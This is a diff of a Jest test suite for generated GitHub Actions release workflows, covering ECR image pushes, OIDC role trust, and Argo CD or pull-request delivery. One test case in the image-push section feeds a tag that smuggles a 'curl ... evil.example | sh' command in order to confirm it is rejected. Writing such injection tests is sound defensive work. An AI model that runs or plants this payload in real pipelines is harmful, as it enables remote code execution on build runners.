@@ -1,28 +1,31 @@
 import { execFileSync, spawnSync } from 'child_process';
-import { mkdirSync, mkdtempSync, readFileSync, writeFileSync } from 'fs';
+import { chmodSync, mkdirSync, mkdtempSync, readFileSync, writeFileSync } from 'fs';
 import { tmpdir } from 'os';
 import { dirname, join } from 'path';
 import { Template } from 'aws-cdk-lib/assertions';
-import { parse } from 'yaml';
+import { parse, stringify } from 'yaml';
 import { GitOpsPlatform } from '../../lib/aws/gitops-platform';
 import { CiWorkflows } from '../../lib/ci/ci-workflows';
+import { applicationFor } from '../../lib/k8s/argocd/platform-applications-chart';
 import { PlatformSpecLoader } from '../../lib/spec/loader';
 import { Platform } from '../../lib/spec/platform';
 import type { ResolvedPlatform } from '../../lib/spec/resolved';
 import { cdkApp, repoPath, sandboxSpec } from '../fixtures';
-import { resolveIntrinsics, trustAdmits } from '../support/iam-eval';
+import { resolveRole, trustAdmits } from '../support/iam-eval';
+import { actionlintFindings, shellcheckFindings } from '../support/workflow-lint';
 
 /** The sandbox, with the app delivered in `delivery` mode (and optionally the vault-plugin backend). */
-function platformWith(delivery: string, vaultPlugin = false): ResolvedPlatform {
+function platformWith(delivery: string, options: { vaultPlugin?: boolean; mutate?: (spec: any) => void } = {}): ResolvedPlatform {
   const spec = sandboxSpec();
   spec.apps[0].delivery = delivery;
   if (delivery !== 'image-updater') delete spec.apps[0].imageUpdate;
-  if (vaultPlugin) spec.secrets = { backend: 'vault-plugin', vault: { address: 'https://vault.example.com:8200' } };
+  if (options.vaultPlugin) spec.secrets = { backend: 'vault-plugin', vault: { address: 'https://vault.example.com:8200' } };
+  options.mutate?.(spec);
   return Platform.resolve(PlatformSpecLoader.fromObject(spec));
 }
 
 function workflowOf(platform: ResolvedPlatform): { path: string; text: string; workflow: any } {
-  const file = new CiWorkflows(platform).workflowFiles().find((f) => f.path.endsWith('.github/workflows/release.yml'))!;
+  const file = new CiWorkflows(platform).workflowFiles().find((f) => /\.github\/workflows\/release[^/]*\.yml$/.test(f.path))!;
   return { path: file.path, text: file.content, workflow: parse(file.content) };
 }
 
@@ -36,19 +39,68 @@ function actionValidator(text: string): { status: number | null; output: string 
   return { status: result.status, output: `${result.stdout}${result.stderr}` };
 }
 
+/**
+ * A directory of stand-ins for the commands a step calls that need the network (aws, docker, gh,
+ * argocd): each appends its arguments, one per line, to `calls.log`, and `aws` answers
+ * `describe-images` as `$ECR_ANSWER` says. The scripts themselves run in real bash.
+ */
+function commandStubs(): { bin: string; calls: () => string[][] } {
+  const bin = mkdtempSync(join(tmpdir(), 'bin-'));
+  const log = join(bin, 'calls.log');
+  writeFileSync(log, '');
+  const stub = (name: string, body = '') => {
+    writeFileSync(join(bin, name), `#!/usr/bin/env bash\n{ printf '%s\\n' ${name} "$@"; echo; } >> "${log}"\n${body}\n`);
+    chmodSync(join(bin, name), 0o755);
+  };
+  stub(
+    'aws',
+    [
+      'if [ "$2" = describe-images ]; then',
+      '  case "$ECR_ANSWER" in',
+      '    found) echo \'{"imageDetails": [{}]}\';;',
+      '    missing) echo "An error occurred (ImageNotFoundException) when calling the DescribeImages operation" >&2; exit 254;;',
+      '    *) echo "An error occurred (AccessDeniedException) when calling the DescribeImages operation" >&2; exit 254;;',
+      '  esac',
+      'fi',
+      'if [ "$2" = batch-get-image ]; then echo \'{"schemaVersion": 2}\'; fi',
+    ].join('\n'),
+  );
+  stub('docker');
+  stub('argocd', 'if [ "$1 $2" = "app create" ]; then cp "${@: -1}" "$(dirname "$0")/application.json"; fi');
+  stub('gh', 'if [ "$1 $2" = "pr list" ] && [ -n "$OPEN_PR" ]; then echo "$OPEN_PR"; fi');
+  const calls = () =>
+    readFileSync(log, 'utf8')
+      .split('\n\n')
+      .filter(Boolean)
+      .map((call) => call.split('\n').filter((l, i) => i === 0 || l !== ''));
+  return { bin, calls };
+}
+
+/** Runs a step's script in bash, as GitHub does, with the workflow's and the job's env and `env`. */
+function runStep(workflow: any, job: string, stepName: string, env: Record<string, string>, cwd = tmpdir()) {
+  const step = workflow.jobs[job].steps.find((s: any) => s.name === stepName);
+  const result = spawnSync('bash', ['--noprofile', '--norc', '-eo', 'pipefail', '-c', step.run], {
+    cwd,
+    encoding: 'utf8',
+    env: { PATH: process.env.PATH!, HOME: process.env.HOME!, ...workflow.env, ...workflow.jobs[job].env, ...step.env, ...env },
+  });
+  return { status: result.status, stdout: result.stdout, stderr: result.stderr };
+}
+
 const modes: [string, ResolvedPlatform][] = [
   ['image-updater', platformWith('image-updater')],
   ['pull-request', platformWith('pull-request')],
   ['argocd-cli', platformWith('argocd-cli')],
-  ['argocd-cli with argocd-vault-plugin', platformWith('argocd-cli', true)],
+  ['argocd-cli with argocd-vault-plugin', platformWith('argocd-cli', { vaultPlugin: true })],
 ];
 
 describe.each(modes)('the release workflow (%s)', (_mode, platform) => {
-  const { text, workflow, path } = workflowOf(platform);
+  const { text, workflow } = workflowOf(platform);
 
-  test('is written for the application repository and passes action-validator', () => {
-    expect(path).toBe('ci/sandbox-app/.github/workflows/release.yml');
+  test('passes action-validator, actionlint (expressions, untrusted input) and shellcheck on every run script', async () => {
     expect(actionValidator(text)).toEqual({ status: 0, output: '' });
+    expect(await actionlintFindings(text)).toEqual([]);
+    expect(shellcheckFindings(text)).toEqual([]);
   });
 
   test('runs on release tags, with id-token only where the role is assumed', () => {
@@ -58,46 +110,122 @@ describe.each(modes)('the release workflow (%s)', (_mode, platform) => {
     expect(withIdToken).toEqual(['push']);
   });
 
-  test('assumes the app CI role with pinned current actions, and pushes every image with the version tag', () => {
+  test('assumes the app CI role with pinned current actions, and has one push step per image, its values in env', () => {
     const steps = workflow.jobs.push.steps;
     expect(steps.map((s: any) => s.uses).filter(Boolean)).toEqual([
       'actions/checkout@v7',
       'aws-actions/configure-aws-credentials@v6',
       'aws-actions/amazon-ecr-login@v2',
     ]);
-    expect(steps[1].with).toMatchObject({ 'role-to-assume': 'arn:aws:iam::123456789012:role/sandbox-main-ci', 'aws-region': 'ap-northeast-1' });
+    expect(steps.find((s: any) => s.uses?.startsWith('aws-actions/configure')).with).toMatchObject({
+      'role-to-assume': 'arn:aws:iam::123456789012:role/sandbox-main-ci',
+      'aws-region': 'ap-northeast-1',
+    });
     expect(workflow.env).toEqual({ AWS_REGION: 'ap-northeast-1', REGISTRY: '123456789012.dkr.ecr.ap-northeast-1.amazonaws.com', TAG: '${{ github.ref_name }}' });
-    const build = steps.find((s: any) => s.name === 'Build and push').run;
-    for (const [repo, dockerfile] of [
-      ['sandbox/main/app', 'build/app/Dockerfile.prod'],
-      ['sandbox/main/web', 'build/web/Dockerfile'],
-      ['sandbox/main/migration', 'build/migration/Dockerfile'],
-    ]) {
-      expect(build).toContain(`docker build -t "$REGISTRY/${repo}:$TAG" -f ${dockerfile} .`);
-      expect(build).toContain(`docker push "$REGISTRY/${repo}:$TAG"`);
+    expect(steps.filter((s: any) => s.name?.startsWith('Push ')).map((s: any) => s.env)).toEqual([
+      { REPOSITORY: 'sandbox/main/migration', DOCKERFILE: 'build/migration/Dockerfile' },
+      { REPOSITORY: 'sandbox/main/app', DOCKERFILE: 'build/app/Dockerfile.prod' },
+      { REPOSITORY: 'sandbox/main/web', DOCKERFILE: 'build/web/Dockerfile' },
+    ]);
+  });
+
+  test('no value from the spec is written into a script: scripts read them from env', () => {
+    const scripts = Object.values<any>(workflow.jobs).flatMap((job) => job.steps.map((s: any) => s.run ?? '')).join('\n');
+    for (const value of ['sandbox/main', 'build/app/Dockerfile.prod', 'main/overlays/production', 'deploy/**', 'example-org', '123456789012']) {
+      expect({ value, inScript: scripts.includes(value) }).toEqual({ value, inScript: false });
     }
   });
 });
 
-describe('workflow and role agree', () => {
-  test('a push of a tag the workflow triggers on carries a subject the synthesized CI role trusts; a branch push does not', () => {
-    const platform = platformWith('image-updater');
-    const gitops = new GitOpsPlatform(cdkApp(), 'w', { platform });
-    const json = Template.fromStack(gitops.platformStack).toJSON();
-    const { workflow } = workflowOf(platform);
-    const roleArn = workflow.jobs.push.steps[1].with['role-to-assume'];
-    const role = Object.values<any>(json.Resources).find((r) => r.Type === 'AWS::IAM::Role' && r.Properties.RoleName === roleArn.split('/').pop());
-    const trust = resolveIntrinsics(role.Properties.AssumeRolePolicyDocument, json);
-    const provider = 'arn:aws:iam::123456789012:oidc-provider/token.actions.githubusercontent.com';
-    const claims = (ref: string) => ({ 'token.actions.githubusercontent.com:sub': `repo:example-org/sandbox-app:${ref}`, 'token.actions.githubusercontent.com:aud': 'sts.amazonaws.com' });
-    expect(workflow.on.push.tags).toEqual(['v*']);
-    expect(trustAdmits(trust, provider, claims('ref:refs/tags/v1.0.0'))).toBe(true);
-    expect(trustAdmits(trust, provider, claims('ref:refs/heads/main'))).toBe(false);
+describe('pushing images: re-runnable against immutable tags', () => {
+  const { workflow } = workflowOf(platformWith('image-updater', { mutate: (s) => (s.apps[0].containers[0].dockerfile = 'docker/my app.Dockerfile') }));
+  const push = (answer: string, build: string) => {
+    const stubs = commandStubs();
+    const result = runStep(workflow, 'push', 'Push app', { PATH: `${stubs.bin}:${process.env.PATH}`, ECR_ANSWER: answer, BUILD: build, PREVIOUS: 'v1.0.0', TAG: 'v1.0.1' });
+    return { ...result, calls: stubs.calls() };
+  };
+
+  test('an image already in ECR under the tag is skipped, not pushed again', () => {
+    const { status, stdout, calls } = push('found', 'true');
+    expect(status).toBe(0);
+    expect(stdout).toContain('sandbox/main/app:v1.0.1 is in ECR already');
+    expect(calls.map((c) => c[0])).toEqual(['aws']);
   });
 
-  test('action-validator does reject a broken workflow', () => {
+  test('a missing image is built from its Dockerfile (a path with a space stays one argument) and pushed', () => {
+    const { status, calls } = push('missing', 'true');
+    expect(status).toBe(0);
+    const registry = '123456789012.dkr.ecr.ap-northeast-1.amazonaws.com';
+    expect(calls.slice(1)).toEqual([
+      ['docker', 'build', '-t', `${registry}/sandbox/main/app:v1.0.1`, '-f', 'docker/my app.Dockerfile', '.'],
+      ['docker', 'push', `${registry}/sandbox/main/app:v1.0.1`],
+    ]);
+  });
+
+  test('when only deployment files changed, the previous release is re-tagged without a build', () => {
+    const { status, calls } = push('missing', 'false');
+    expect(status).toBe(0);
+    expect(calls.slice(1).map((c) => c.slice(0, 3))).toEqual([
+      ['aws', 'ecr', 'batch-get-image'],
+      ['aws', 'ecr', 'put-image'],
+    ]);
+    expect(calls[2]).toEqual(expect.arrayContaining(['--image-tag', 'v1.0.1']));
+  });
+
+  test('any other ECR error fails the step without building', () => {
+    const { status, stderr, calls } = push('denied', 'true');
+    expect(status).not.toBe(0);
+    expect(stderr).toContain('AccessDeniedException');
+    expect(calls.map((c) => c[0])).toEqual(['aws']);
+  });
+
+  test.each([
+    ['v1.2.3', 0],
+    ['v1;curl${IFS}evil.example|sh', 1],
+  ])('the tag %s is checked before anything is built (exit %d)', (tag, expected) => {
+    expect(runStep(workflow, 'push', 'Check the tag is an image tag', { TAG: tag }).status).toBe(expected);
+  });
+});
+
+describe('workflow and role agree', () => {
+  const trustOf = (platform: ResolvedPlatform) => {
+    const gitops = new GitOpsPlatform(cdkApp(), 'w', { platform });
+    const json = Template.fromStack(gitops.platformStack).toJSON();
+    const role = Object.values<any>(json.Resources).find((r) => r.Type === 'AWS::IAM::Role' && r.Properties.RoleName === 'sandbox-main-ci');
+    return resolveRole(role.Properties, json).AssumeRolePolicyDocument;
+  };
+  const provider = 'arn:aws:iam::123456789012:oidc-provider/token.actions.githubusercontent.com';
+  const claims = (sub: string) => ({ 'token.actions.githubusercontent.com:sub': sub, 'token.actions.githubusercontent.com:aud': 'sts.amazonaws.com' });
+
+  test('a tag push of a new repository carries the immutable subject the CI role trusts; the name form and a branch do not', () => {
+    // docs.github.com, OpenID Connect reference, "Immutable subject claims": repositories created
+    // after 15 July 2026 send repo:OWNER@OWNER-ID/REPO@REPO-ID:ref:refs/tags/TAG.
+    const trust = trustOf(platformWith('image-updater'));
+    expect(workflowOf(platformWith('image-updater')).workflow.on.push.tags).toEqual(['v*']);
+    expect(trustAdmits(trust, provider, claims('repo:example-org@100000001/sandbox-app@200000001:ref:refs/tags/v1.0.0'))).toBe(true);
+    expect(trustAdmits(trust, provider, claims('repo:example-org/sandbox-app:ref:refs/tags/v1.0.0'))).toBe(false);
+    expect(trustAdmits(trust, provider, claims('repo:example-org@100000001/sandbox-app@999:ref:refs/tags/v1.0.0'))).toBe(false);
+    expect(trustAdmits(trust, provider, claims('repo:example-org@100000001/sandbox-app@200000001:ref:refs/heads/main'))).toBe(false);
+  });
+
+  test('an older repository given subjectFormat name is trusted by name', () => {
+    const trust = trustOf(
+      platformWith('image-updater', {
+        mutate: (s) => {
+          s.apps[0].ci.subjectFormat = 'name';
+          delete s.apps[0].ci.repositoryId;
+        },
+      }),
+    );
+    expect(trustAdmits(trust, provider, claims('repo:example-org/sandbox-app:ref:refs/tags/v1.0.0'))).toBe(true);
+  });
+
+  test('actionlint does report untrusted input written into a script: the check is real', async () => {
     const { text } = workflowOf(platformWith('image-updater'));
+    const injected = text.replace('echo "previous=$previous"', 'echo "${{ github.event.head_commit.message }}"');
+    expect((await actionlintFindings(injected)).join('\n')).toMatch(/github\.event\.head_commit\.message" is potentially untrusted/);
     expect(actionValidator(text.replace('runs-on: ubuntu-latest', 'runs_on: ubuntu-latest')).status).not.toBe(0);
+    expect(shellcheckFindings(text.replace('"$REPOSITORY"', '$REPOSITORY'))).not.toEqual([]);
   });
 });
 
@@ -106,40 +234,103 @@ describe('delivery modes', () => {
     expect(Object.keys(workflowOf(platformWith('image-updater')).workflow.jobs)).toEqual(['changes', 'push']);
   });
 
-  test('pull-request: sets every image tag in the overlay and opens a pull request on the manifest repository', () => {
-    const deliver = workflowOf(platformWith('pull-request')).workflow.jobs.deliver;
-    expect(deliver.needs).toBe('push');
-    expect(deliver.steps[0]).toEqual({
-      uses: 'actions/checkout@v7',
-      with: { repository: 'example-org/sandbox-manifests', ref: 'main', token: '${{ secrets.MANIFEST_REPO_TOKEN }}', path: 'manifests' },
-    });
-    expect(deliver.steps[1]['working-directory']).toBe('manifests/main/overlays/production');
+  describe('pull-request', () => {
+    const { workflow } = workflowOf(platformWith('pull-request'));
+    const deliver = workflow.jobs.deliver;
     const registry = '123456789012.dkr.ecr.ap-northeast-1.amazonaws.com';
-    expect(deliver.steps[1].run).toBe(
-      `kustomize edit set image "${registry}/sandbox/main/migration=${registry}/sandbox/main/migration:$TAG" ` +
-        `"${registry}/sandbox/main/app=${registry}/sandbox/main/app:$TAG" "${registry}/sandbox/main/web=${registry}/sandbox/main/web:$TAG"\n`,
-    );
-    expect(deliver.steps[2].run).toContain('gh pr create --base main --head "$branch"');
+
+    test('checks out the manifest repository with the token', () => {
+      expect(deliver.needs).toBe('push');
+      expect(deliver.steps[0]).toEqual({
+        uses: 'actions/checkout@v7',
+        with: { repository: 'example-org/sandbox-manifests', ref: 'main', token: '${{ secrets.MANIFEST_REPO_TOKEN }}', path: 'manifests' },
+      });
+      expect(deliver.env).toMatchObject({ APP: 'main', BASE: 'main', OVERLAY: 'main/overlays/production' });
+    });
+
+    // A manifest checkout (a real Git repository with a bare origin) in which the two steps run.
+    const root = mkdtempSync(join(tmpdir(), 'pr-'));
+    const git = (cwd: string, ...args: string[]) => execFileSync('git', ['-c', 'user.name=t', '-c', 'user.email=t@example.com', ...args], { cwd, encoding: 'utf8' }).trim();
+    execFileSync('git', ['init', '-q', '--bare', '-b', 'main', join(root, 'origin.git')]);
+    const manifests = join(root, 'manifests');
+    execFileSync('git', ['clone', '-q', join(root, 'origin.git'), manifests]);
+    mkdirSync(join(manifests, 'main/overlays/production'), { recursive: true });
+    writeFileSync(join(manifests, 'main/overlays/production/kustomization.yaml'), stringify({ images: [{ name: `${registry}/sandbox/main/app`, newTag: 'v1.0.0' }] }));
+    git(manifests, 'add', '-A');
+    git(manifests, 'commit', '-qm', 'first');
+    git(manifests, 'push', '-q', 'origin', 'HEAD:main');
+    const stubs = commandStubs();
+    const path = `${repoPath('test', 'support', 'avp-stubs')}:${stubs.bin}:${process.env.PATH}`;
+    const env = { PATH: path, TAG: 'v1.1.0', GH_TOKEN: 'x', SOURCE: 'https://github.com/example-org/sandbox-app/releases/tag/v1.1.0' };
+
+    test('sets every image of the app to the tag in the overlay', () => {
+      expect(runStep(workflow, 'deliver', 'Set main to the new tag in main/overlays/production', env, root).status).toBe(0);
+      const images = parse(readFileSync(join(manifests, 'main/overlays/production/kustomization.yaml'), 'utf8')).images;
+      expect(Object.fromEntries(images.map((i: any) => [i.name.split('/').pop(), i.newTag]))).toEqual({ app: 'v1.1.0', web: 'v1.1.0', migration: 'v1.1.0' });
+    });
+
+    test('pushes a release branch and opens one pull request; a re-run keeps them instead of failing', () => {
+      const first = runStep(workflow, 'deliver', 'Open the pull request', env, manifests);
+      expect(first.status).toBe(0);
+      expect(git(manifests, 'ls-remote', '--heads', 'origin')).toContain('refs/heads/release/main-v1.1.0');
+      const again = runStep(workflow, 'deliver', 'Open the pull request', { ...env, OPEN_PR: '12' }, manifests);
+      expect(again.status).toBe(0);
+      expect(again.stdout).toContain('at v1.1.0 already');
+      expect(again.stdout).toContain('is open already');
+      const created = stubs.calls().filter((c) => c[0] === 'gh' && c[1] === 'pr' && c[2] === 'create');
+      expect(created).toHaveLength(1);
+      expect(created[0]).toEqual(expect.arrayContaining(['--base', 'main', '--title', 'main: release v1.1.0']));
+    });
   });
 
-  test('argocd-cli: upserts the Application with the images at the new tag, no manifest commit', () => {
-    const deliver = workflowOf(platformWith('argocd-cli')).workflow.jobs.deliver;
-    const run = deliver.steps[1].run;
-    expect(run).toMatch(/^argocd app create main \\\n  --upsert \\\n/);
-    expect(run).toContain('--path main/overlays/production');
-    expect(run).toContain('--project sandbox');
-    expect(run).toContain('--dest-namespace main');
-    expect(run).toContain('--kustomize-image "123456789012.dkr.ecr.ap-northeast-1.amazonaws.com/sandbox/main/app:$TAG"');
-    expect(run).not.toContain('--config-management-plugin');
-    expect(deliver.env).toEqual({ ARGOCD_SERVER: '${{ secrets.ARGOCD_SERVER }}', ARGOCD_AUTH_TOKEN: '${{ secrets.ARGOCD_AUTH_TOKEN }}' });
-  });
+  describe('argocd-cli', () => {
+    /** Runs the upsert step with a stand-in argocd; returns the Application it was given. */
+    const upserted = (platform: ResolvedPlatform) => {
+      const { workflow } = workflowOf(platform);
+      const stubs = commandStubs();
+      const result = runStep(workflow, 'deliver', 'Upsert main at the new tag', { PATH: `${stubs.bin}:${process.env.PATH}`, TAG: 'v2.0.0' }, mkdtempSync(join(tmpdir(), 'cli-')));
+      expect(result).toMatchObject({ status: 0 });
+      expect(stubs.calls().find((c) => c[0] === 'argocd')!.slice(1, 4)).toEqual(['app', 'create', '--upsert']);
+      return { workflow, application: JSON.parse(readFileSync(join(stubs.bin, 'application.json'), 'utf8')) };
+    };
 
-  test('argocd-cli with the vault plugin: the plugin receives image name, tag and repository as env', () => {
-    const run = workflowOf(platformWith('argocd-cli', true)).workflow.jobs.deliver.steps[1].run;
-    expect(run).toContain('--config-management-plugin avp-kustomize');
-    expect(run).toContain('--plugin-env IMAGE_TAG="$TAG"');
-    expect(run).toContain('--plugin-env APP_REPO="${{ github.server_url }}/${{ github.repository }}"');
-    expect(run).toMatch(/--plugin-env IMAGE_NAME="\S+\/sandbox\/main\/migration \S+\/sandbox\/main\/app \S+\/sandbox\/main\/web"/);
+    test('upserts the same Application the charts write, with the images at the new tag', () => {
+      const platform = platformWith('argocd-cli');
+      const { workflow, application } = upserted(platform);
+      const expected = applicationFor(platform, platform.apps[0]);
+      expect({ ...application, spec: { ...application.spec, source: { ...application.spec.source, kustomize: undefined } } }).toEqual({
+        ...expected,
+        spec: { ...expected.spec, source: { ...expected.spec.source, kustomize: undefined } },
+      });
+      const registry = '123456789012.dkr.ecr.ap-northeast-1.amazonaws.com';
+      expect(application.spec.source.kustomize.images).toEqual([
+        `${registry}/sandbox/main/migration:v2.0.0`,
+        `${registry}/sandbox/main/app:v2.0.0`,
+        `${registry}/sandbox/main/web:v2.0.0`,
+      ]);
+      expect(workflow.jobs.deliver.env).toMatchObject({ ARGOCD_SERVER: '${{ secrets.ARGOCD_SERVER }}', ARGOCD_AUTH_TOKEN: '${{ secrets.ARGOCD_AUTH_TOKEN }}' });
+    });
+
+    test('follows argocd.syncPolicy: a manual policy upserts an Application without automated sync', () => {
+      const { application } = upserted(platformWith('argocd-cli', { mutate: (s) => (s.argocd = { syncPolicy: { automated: false } }) }));
+      expect(application.spec.syncPolicy.automated).toBeUndefined();
+      expect(application.spec.syncPolicy.syncOptions).toEqual(['CreateNamespace=true']);
+    });
+
+    test('with the vault plugin, the plugin receives image names, tag and repository as env', () => {
+      const { application } = upserted(platformWith('argocd-cli', { vaultPlugin: true }));
+      const env = Object.fromEntries(application.spec.source.plugin.env.map((e: any) => [e.name, e.value]));
+      expect(application.spec.source.plugin.name).toBe('avp-kustomize');
+      expect(env.IMAGE_TAG).toBe('v2.0.0');
+      expect(env.APP_REPO).toBe('https://github.com/example-org/sandbox-app');
+      expect(env.IMAGE_NAME.split(' ').map((n: string) => n.split('/').pop())).toEqual(['migration', 'app', 'web']);
+    });
+
+    test('installs the Argo CD CLI of the platform version, checked against the release checksums', () => {
+      const { workflow } = workflowOf(platformWith('argocd-cli'));
+      expect(workflow.jobs.deliver.env.ARGOCD_CLI_URL).toBe('https://github.com/argoproj/argo-cd/releases/download/v3.4.4/argocd-linux-amd64');
+      expect(workflow.jobs.deliver.steps[0].run).toContain('sha256sum --check --ignore-missing cli_checksums.txt');
+    });
   });
 
   test('each repository README lists the secrets its mode needs', () => {
@@ -152,7 +343,7 @@ describe('delivery modes', () => {
 
 describe('skipping builds when only deployment files change', () => {
   // The `changes` step's script, run in a real Git repository with release tags.
-  const script = workflowOf(platformWith('image-updater')).workflow.jobs.changes.steps[1].run;
+  const { workflow } = workflowOf(platformWith('image-updater'));
   const repo = mkdtempSync(join(tmpdir(), 'app-repo-'));
   const git = (...args: string[]) => execFileSync('git', args, { cwd: repo, encoding: 'utf8' }).trim();
   const commitAndTag = (file: string, tag: string) => {
@@ -166,17 +357,21 @@ describe('skipping builds when only deployment files change', () => {
   const outputsAt = (sha: string) => {
     const output = join(repo, '..', `${repo.split('/').pop()}-output`);
     writeFileSync(output, '');
-    execFileSync('bash', ['-e', '-c', script], { cwd: repo, env: { ...process.env, GITHUB_SHA: sha, GITHUB_OUTPUT: output } });
+    expect(runStep(workflow, 'changes', 'Compare with the previous release tag', { GITHUB_SHA: sha, GITHUB_OUTPUT: output }, repo).status).toBe(0);
     return Object.fromEntries(readFileSync(output, 'utf8').trim().split('\n').map((l) => l.split('=')));
   };
   git('init', '-q');
   const first = commitAndTag('src/main.go', 'v1.0.0');
   const deployOnly = commitAndTag('deploy/values.yaml', 'v1.0.1');
   const docsOnly = commitAndTag('docs/guide.md', 'v1.0.2');
+  commitAndTag('src/other.go', 'docs-build-7');
   const source = commitAndTag('src/main.go', 'v1.1.0');
 
   test('the first release builds', () => expect(outputsAt(first)).toEqual({ previous: '', build: 'true' }));
   test('a release changing only deploy/ reuses the previous images', () => expect(outputsAt(deployOnly)).toEqual({ previous: 'v1.0.0', build: 'false' }));
   test('a release changing only Markdown reuses them too', () => expect(outputsAt(docsOnly)).toEqual({ previous: 'v1.0.1', build: 'false' }));
-  test('a release changing source builds', () => expect(outputsAt(source)).toEqual({ previous: 'v1.0.2', build: 'true' }));
+  test('a release changing source builds, compared with the previous tag of the app\'s own patterns', () => {
+    // docs-build-7 matches no tag pattern of the app: the previous release is v1.0.2.
+    expect(outputsAt(source)).toEqual({ previous: 'v1.0.2', build: 'true' });
+  });
 });
